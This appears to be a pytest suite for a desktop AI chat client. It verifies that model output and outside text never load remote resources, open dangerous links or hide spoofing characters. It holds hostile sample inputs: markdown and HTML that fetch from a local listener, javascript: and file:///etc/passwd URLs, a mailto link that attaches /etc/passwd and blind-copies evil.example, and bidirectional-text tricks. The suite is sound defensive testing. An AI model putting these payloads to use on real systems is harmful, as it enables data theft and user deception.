"""What a model, a file or a server writes: shown as text, never loaded, never followed."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from PySide6.QtCore import QByteArray, QPoint, Qt, QUrl
from PySide6.QtGui import QHelpEvent, QTextCursor, QTextDocument
from PySide6.QtWidgets import QApplication, QPlainTextEdit
from pytestqt.qtbot import QtBot

from ui import chat_tab, links, outside
from ui import format as fmt
from ui.conversation_page import ConversationPage
from ui.dialogs import AskDialog
from ui.main_window import MainWindow
from ui.markdown_stream import MarkdownStream
from ui.message_body import MessageBody
from ui.print_view import PrintDocument
from ui.tool_log import ConsentCard
from ui.tool_views import ConsentView
from ui.views import HeaderView, NoticeView, TabView, TurnView


class Listener:
    """Counts connections to a port of this machine."""

    def __init__(self) -> None:
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._socket.settimeout(0.1)
        self.port = self._socket.getsockname()[1]
        self.hits = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                found, _ = self._socket.accept()
            except TimeoutError:
                continue
            self.hits += 1
            found.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self._socket.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


def hostile(base: str, file: Path) -> str:
    uri = file.as_uri()
    return f"""# ![h]({base}/heading.png)

![plain]({base}/a.png) ![file]({uri}) ![raw]({file}) ![unc](//127.0.0.1/share/x.png)
![win](\\\\127.0.0.1\\share\\x.png) ![qrc](qrc:/icons/x.png) ![res](:/icons/x.png)
![data](data:image/png;base64,iVBORw0KGgo=) ![ref][r] <{base}/auto.png>

<img src="{base}/tag.png"><script>fetch("{base}/js")</script>
<iframe src="{base}/frame"></iframe><link rel="stylesheet" href="{base}/s.css">
<svg xmlns="http://www.w3.org/2000/svg"><image href="{base}/svg.png"/></svg>
<table background="{base}/bg.png"><tr><td style="background:url({base}/td.png)">x</td></tr></table>

| a | ![t]({base}/cell.png) |
| - | - |
| <img src="{base}/c2.png"> | [x]({base}/link) |

> ![q]({base}/quote.png)
1. ![l]({base}/list.png)[^1]

[^1]: ![foot]({base}/foot.png)
[r]: {base}/ref.png

```html
<img src="{base}/code.png">
```
"""


class Watched(MessageBody):
    """Says what its document asks for."""

    asked: list[str]

    def loadResource(self, kind: int, name: QUrl | str) -> QByteArray:
        self.__dict__.setdefault("asked", []).append(str(name))
        return super().loadResource(kind, name)


def test_nothing_is_fetched_for_an_answer(qtbot: QtBot, listener: Listener, tmp_path: Path) -> None:
    picture = tmp_path / "secret.png"
    picture.write_bytes(b"\x89PNG\r\n")
    text = hostile(f"http://127.0.0.1:{listener.port}", picture)
    body = Watched("Answer")
    qtbot.addWidget(body)
    body.resize(600, 400)
    body.show()
    body.set_markdown(text, final=False)
    while body.render_step(1.0):
        pass
    body.set_markdown(text)
    while body.render_step(1.0):
        pass
    body.grab()
    document = PrintDocument()
    printed = MarkdownStream(document)
    printed.reset(text)
    printed.run()
    document.size()
    qtbot.wait(150)
    assert listener.hits == 0
    assert getattr(body, "asked", []) == []
    assert document.loadResource(2, QUrl.fromLocalFile(str(picture))) is None
    shown = body.toPlainText()
    assert "<script>" in shown, "markup is shown as what it is"
    assert "\ufffc" not in shown, "no object stands in the text"
    kind = QTextDocument.ResourceType.ImageResource
    assert body.document().resource(kind, QUrl.fromLocalFile(str(picture))) == b" "


def test_a_persons_message_is_plain(qtbot: QtBot) -> None:
    body = MessageBody("You", markdown=False)
    qtbot.addWidget(body)
    body.set_plain("<b>x</b> <img src='file:///etc/passwd'> **y**")
    assert body.toPlainText() == "<b>x</b> <img src='file:///etc/passwd'> **y**"


REFUSED = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "file:///etc/passwd", "data:text/html,x",
    "vbscript:x", "//host/share/x", "\\\\host\\share", "relative/path", "/etc/passwd", "#part",
    "qrc:/x", "ssh://host", "smb://host/x", "ms-msdt:/id", "mailto:", "https://", "http:///x",
    "", "x-apple:1", "about:blank", "https://" + "a" * 5000,
)  # fmt: skip


class Desktop:
    """Stands where the desktop's services are used; takes the addresses."""

    def __init__(self) -> None:
        self.opened: list[str] = []

    def openUrl(self, url: QUrl) -> bool:
        self.opened.append(bytes(url.toEncoded().data()).decode())
        return True


@pytest.fixture
def opened(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    desktop = Desktop()
    monkeypatch.setattr(outside, "QDesktopServices", desktop)
    return desktop.opened


@pytest.mark.parametrize("target", REFUSED)
def test_other_addresses_are_never_opened(target: str, qtbot: QtBot, opened: list[str]) -> None:
    assert links.check(target) is None
    chat_tab.open_link(target)
    assert opened == []
    page = ConversationPage("k")
    qtbot.addWidget(page)
    page.link_activated.connect(chat_tab.open_link)
    page._on_link_clicked(target)
    dialog = page.findChild(AskDialog)
    assert dialog is not None
    assert list(dialog.buttons) == [""], "only Close"
    dialog.reject()
    assert opened == []
    qtbot.wait(10)


def test_a_link_is_shown_as_it_is_opened(qtbot: QtBot, opened: list[str]) -> None:
    page = ConversationPage("k")
    qtbot.addWidget(page)
    page.link_activated.connect(chat_tab.open_link)
    page._on_link_clicked("https://good.example@evil.example/\u202egnp.exe?q=%2e")
    dialog = page.findChild(AskDialog)
    assert dialog is not None
    assert opened == [], "nothing before the answer"
    box = dialog.findChild(QPlainTextEdit)
    assert box is not None
    shown = box.toPlainText()
    assert shown.isascii()
    assert "evil.example" in shown
    dialog.buttons["open"].click()
    assert opened == [shown]
    qtbot.wait(10)  # the closed dialog goes before the window it belongs to


def test_what_an_address_hides_is_said() -> None:
    plain = links.check("https://example.org/a?b=c#d")
    assert plain is not None
    assert plain.address == "https://example.org/a?b=c#d"
    assert plain.facts == ("It leads to example.org.",)
    confusable = links.check("https://аpple.com/")  # a Cyrillic first letter
    assert confusable is not None
    assert "xn--pple-43d.com" in confusable.facts[0]
    assert "imitate" in confusable.facts[1]
    credentials = links.check("https://bank.example:x@evil.example/")
    assert credentials is not None
    assert "evil.example" in credentials.facts[0]
    assert "user name" in credentials.facts[1]


def test_a_mail_link_cannot_attach_or_copy_in_secret() -> None:
    found = links.check(
        "mailto:a@b.example?subject=Hi%20you&attach=/etc/passwd&bcc=x@evil.example&BODY=b"
    )
    assert found is not None
    assert found.address == "mailto:a@b.example?subject=Hi%20you&body=b"
    assert len(found.facts) == 2
    two = links.check("mailto:a@b.example,c%0abcc:x@evil.example")
    assert two is not None
    assert "\n" not in "".join(two.facts)
    assert "%0a" in two.address.lower(), "a line break stays encoded"


def test_a_click_reports_the_address_undecoded(qtbot: QtBot) -> None:
    body = MessageBody("Answer")
    qtbot.addWidget(body)
    body.set_markdown("[x](https://e.example/%E2%80%AE)")
    while body.render_step(1.0):
        pass
    got: list[str] = []
    body.link_clicked.connect(got.append)
    cursor = QTextCursor(body.document())
    cursor.setPosition(1)
    body._on_anchor_clicked(QUrl(cursor.charFormat().anchorHref()))
    assert got == ["https://e.example/%E2%80%AE"]


def test_tooltips_show_markup_as_text(qtbot: QtBot, tmp_path: Path) -> None:
    for text in ("<b>x</b>", "a &lt; b", "<img src='file:///etc/passwd'>"):
        assert "<p>" in fmt.tip(text)
        document = QTextDocument()
        document.setHtml(fmt.tip(text))
        assert document.toPlainText() == text
    assert fmt.tip("C & D") != "C & D"
    assert fmt.tip("plain\nlines") == "plain\nlines"
    window = MainWindow()
    window.allow_close()
    qtbot.addWidget(window)
    window.set_header(HeaderView(phase="ready", model="<img src='file:///etc/passwd'>"))
    tip = window.header("chat").text.toolTip()
    assert tip.startswith("<p>&lt;img")


def test_names_from_elsewhere_cannot_turn_or_hide_text(qtbot: QtBot) -> None:
    bad = "safe\u202egpj.exe\u200b\x1b[31m\U000e0041<b>x</b>"
    window = MainWindow()
    window.allow_close()
    qtbot.addWidget(window)
    window.chat.add_conversation(TabView(key="a", title=bad))
    window.set_header(HeaderView(phase="ready", model=bad))
    window.show_notice(NoticeView(id="n", headline=bad, text=f"{bad}\n{bad}", level="bad"))
    dialog = AskDialog(window, bad, bad, [], bad)
    qtbot.addWidget(dialog)
    card = ConsentCard(ConsentView(id="c", name="t", source=bad, arguments=f'{{"a": "{bad}"}}'))
    qtbot.addWidget(card)
    from PySide6.QtWidgets import QLabel

    texts = [w.text() for top in (window, dialog, card) for w in top.findChildren(QLabel)]
    texts += [window.chat.tabs.bar.tabText(0), window.chat.tabs.bar.accessibleTabName(0)]
    texts.append(dialog.windowTitle())
    seen = [t for t in texts if "safe" in t]
    assert len(seen) >= 7
    for text in seen:
        assert not set(text) & set("\u202e\u200b\x1b\U000e0041"), ascii(text)
    for top in (window, dialog, card):
        for words in top.findChildren(QLabel):
            assert words.textFormat() == Qt.TextFormat.PlainText or not words.text(), words.text()


def test_what_is_agreed_to_is_whole_and_visible(qtbot: QtBot) -> None:
    long = '{"path": "/tmp/x", "pad": "' + " " * 3000 + '", "delete": "/home\u202e"}'
    card = ConsentCard(ConsentView(id="c", name="t", arguments=long))
    qtbot.addWidget(card)
    box = card.findChild(QPlainTextEdit)
    assert box is not None
    assert box.toPlainText().endswith('"delete": "/home\\u202e"}')


def test_code_cannot_read_in_another_order_than_it_runs(qtbot: QtBot) -> None:
    body = MessageBody("Answer")
    qtbot.addWidget(body)
    body.set_markdown('```python\nif x == "a\u202e # \u2066":\n    pass\n```\n`b\u202ec`')
    while body.render_step(1.0):
        pass
    assert not set(body.toPlainText()) & set("\u202e\u2066")
    assert body.stream is not None
    assert "\u202e" in body.stream.regions[0].code, "copying gives what was written"


@pytest.mark.qt_log_ignore("does not support raise", extend=True)
def test_hovering_asks_for_nothing(qtbot: QtBot, listener: Listener) -> None:
    view = TurnView(
        node_id="a",
        role="assistant",
        status="failed",
        text="words",
        error="It <b>failed</b>",
        error_details=f"<img src='http://127.0.0.1:{listener.port}/x.png'>",
    )
    page = ConversationPage("k")
    qtbot.addWidget(page)
    page.resize(700, 500)
    page.set_turns([view])
    page.show()
    message = page.transcript.view_of("a")
    assert message is not None
    assert message._error is not None
    assert message._error.textFormat() == Qt.TextFormat.PlainText
    at = QPoint(3, 3)
    hover = QHelpEvent(QHelpEvent.Type.ToolTip, at, message._error.mapToGlobal(at))
    QApplication.sendEvent(message._error, hover)
    qtbot.wait(120)
    assert listener.hits == 0
